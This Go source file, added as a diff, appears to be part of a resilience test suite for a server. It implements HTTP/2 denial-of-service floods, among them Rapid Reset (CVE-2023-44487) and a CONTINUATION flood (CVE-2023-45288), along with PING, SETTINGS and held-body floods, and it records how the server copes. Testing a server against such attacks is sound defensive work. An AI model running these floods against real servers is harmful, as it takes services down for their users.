@@ -1,0 +1,231 @@
+package attack
+
+import (
+	"context"
+	"fmt"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+)
+
+// flooders is how many connections flood at once, on few addresses: each has
+// more than it may use.
+const flooders = 8
+
+// flood lets some connections of HTTP/2 write what they like until d is over
+// or the server hangs up, and returns how many writes there were.
+func (s *scene) flood(ctx context.Context, d time.Duration, write func(f *frames, i int) error) (writes int64, hungUp int64) {
+	ctx, cancel := context.WithTimeout(ctx, d)
+	defer cancel()
+	var n, gone atomic.Int64
+	var wg sync.WaitGroup
+	for i := range flooders {
+		wg.Go(func() {
+			for ctx.Err() == nil {
+				f, err := s.dialHTTP2(ctx, stranger(i/4))
+				if err != nil {
+					pause(ctx, 50*time.Millisecond)
+					continue
+				}
+				go f.count()
+				for k := 0; err == nil && ctx.Err() == nil; k++ {
+					if err = write(f, k); err == nil {
+						n.Add(1)
+					}
+				}
+				if ctx.Err() == nil {
+					gone.Add(1)
+				}
+				f.Close()
+			}
+		})
+	}
+	wg.Wait()
+	return n.Load(), gone.Load()
+}
+
+// rapidReset opens streams and resets them at once, CVE-2023-44487.
+func rapidReset(d time.Duration) func(context.Context, *scene) {
+	return func(ctx context.Context, s *scene) {
+		before := s.proc.cpu()
+		streams, hungUp := s.flood(ctx, d, func(f *frames, i int) error {
+			id, err := f.open("GET", "/inbox", fmt.Sprint("reset", i%50), true)
+			if err != nil {
+				return err
+			}
+			return f.WriteRSTStream(id, http2.ErrCodeCancel)
+		})
+		s.note("%d streams opened and reset in %v; hung up %d times; %d ms of CPU", streams, d, hungUp, 10*(s.proc.cpu()-before))
+	}
+}
+
+// pingFlood asks for answers to PING and reads them.
+func pingFlood(d time.Duration) func(context.Context, *scene) {
+	return func(ctx context.Context, s *scene) {
+		n, hungUp := s.flood(ctx, d, func(f *frames, i int) error { return f.WritePing(false, [8]byte{byte(i)}) })
+		s.note("%d PINGs in %v; hung up %d times", n, d, hungUp)
+	}
+}
+
+// settingsFlood changes the settings again and again.
+func settingsFlood(d time.Duration) func(context.Context, *scene) {
+	return func(ctx context.Context, s *scene) {
+		n, hungUp := s.flood(ctx, d, func(f *frames, i int) error {
+			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
+		})
+		s.note("%d SETTINGS in %v; hung up %d times", n, d, hungUp)
+	}
+}
+
+// pingsUnread makes the server queue answers that are never read.
+func pingsUnread(ctx context.Context, s *scene) {
+	const conns, pings = 400, 20_000
+	var sent, ended atomic.Int64
+	each(conns, 100, func(i int) {
+		c, err := s.narrow(ctx, stranger(i/50), "h2")
+		if err != nil {
+			s.fail("connection %d: %v", i, err)
+			return
+		}
+		f, err := begin(c)
+		if err != nil {
+			ended.Add(1)
+			return
+		}
+		f.SetWriteDeadline(time.Now().Add(3 * time.Second)) // full pipes end it too
+		n := int64(0)
+		for ; err == nil && n < pings; n++ {
+			err = f.WritePing(false, [8]byte{byte(n)})
+		}
+		sent.Add(n)
+		if err != nil {
+			ended.Add(1)
+		}
+	})
+	pause(ctx, time.Second)
+	s.note("%d connections, %d PINGs; %d could not send all", conns, sent.Load(), ended.Load())
+}
+
+// continuationFlood sends headers without end, CVE-2023-45288.
+func continuationFlood(ctx context.Context, s *scene) {
+	var sent, most atomic.Int64
+	each(50, 10, func(i int) {
+		f, err := s.dialHTTP2(ctx, stranger(i/25))
+		if err != nil {
+			s.fail("connection %d: %v", i, err)
+			return
+		}
+		defer f.Close()
+		go f.count()
+		_, err = f.open("GET", "/inbox", "reset", true, filler(8<<10)...)
+		if err == nil {
+			err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next, BlockFragment: f.block.Bytes()})
+		}
+		n := int64(0)
+		for ; err == nil && n < 100_000; n++ {
+			err = f.WriteContinuation(f.next, false, f.block.Bytes())
+		}
+		sent.Add(n)
+		most.Store(max(most.Load(), n))
+		if err == nil {
+			s.fail("%d CONTINUATION frames of 8 KiB were taken", n)
+		}
+	})
+	s.note("at most %d frames of 8 KiB before the server hung up, %d on 50 connections", most.Load(), sent.Load())
+}
+
+// unreadAnswers asks with large headers and allows the server to send nothing:
+// each answer keeps its request in memory.
+func unreadAnswers(ctx context.Context, s *scene) {
+	const conns, streams = 120, 100
+	var opened atomic.Int64
+	var lines [conns]*frames
+	each(conns, 20, func(i int) {
+		f, err := s.dialHTTP2(ctx, stranger(i/24), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		if err != nil {
+			s.fail("connection %d: %v", i, err)
+			return
+		}
+		lines[i] = f
+		go f.count()
+		for range streams {
+			if _, err := f.open("GET", "/nothing", "reader", true, filler(14<<10)...); err != nil {
+				return
+			}
+			opened.Add(1)
+		}
+	})
+	pause(ctx, 3*time.Second)
+	var answers, resets int64
+	for _, f := range lines {
+		if f != nil {
+			answers += f.answers.Load()
+			resets += f.resets.Load()
+			f.Close()
+		}
+	}
+	s.note("%d connections of 5 addresses, %d requests with headers of 14 KiB: %d answers unread, %d refused", conns, opened.Load(), answers, resets)
+}
+
+// unwantedBodies sends bodies with polls, which nobody reads while they are
+// held.
+func unwantedBodies(ctx context.Context, s *scene) {
+	const conns = 500
+	var taken atomic.Int64
+	var lines [conns]*frames
+	chunk := make([]byte, 16<<10)
+	each(conns, 20, func(i int) {
+		f, err := s.dialHTTP2(ctx, stranger(i/50))
+		if err != nil {
+			s.fail("connection %d: %v", i, err)
+			return
+		}
+		lines[i] = f
+		go f.count()
+		pause(ctx, 100*time.Millisecond) // for the server's settings
+		id, err := f.open("GET", "/inbox", fmt.Sprint("poll", i), false)
+		for left := min(f.conn.Load(), f.stream.Load()); err == nil && left > 0; left -= int64(len(chunk)) {
+			if err = f.WriteData(id, false, chunk[:min(left, int64(len(chunk)))]); err == nil {
+				taken.Add(min(left, int64(len(chunk))))
+			}
+		}
+	})
+	pause(ctx, 2*time.Second)
+	for _, f := range lines {
+		if f != nil {
+			f.Close()
+		}
+	}
+	s.note("%d held polls with %d MiB of bodies", conns, taken.Load()>>20)
+}
+
+// abandoned leaves connections with a request and a body on them, again and
+// again, as fast as an address may open new ones.
+func abandoned(d time.Duration) func(context.Context, *scene) {
+	return func(ctx context.Context, s *scene) {
+		flooding, cancel := context.WithTimeout(ctx, d)
+		defer cancel()
+		var opened, refused atomic.Int64
+		each(16, 16, func(worker int) {
+			for i := worker; flooding.Err() == nil; i += 16 {
+				f, err := s.dialHTTP2(flooding, stranger(i%10))
+				if err != nil {
+					refused.Add(1)
+					continue
+				}
+				id, err := f.open("GET", "/inbox", fmt.Sprint("left", worker), false)
+				for range 4 {
+					if err == nil {
+						err = f.WriteData(id, false, make([]byte, 15<<10))
+					}
+				}
+				pause(flooding, 5*time.Millisecond) // for the server to take it in
+				f.Close()
+				opened.Add(1)
+			}
+		})
+		s.note("%d connections left in %v, %d refused", opened.Load(), d, refused.Load())
+	}
+}
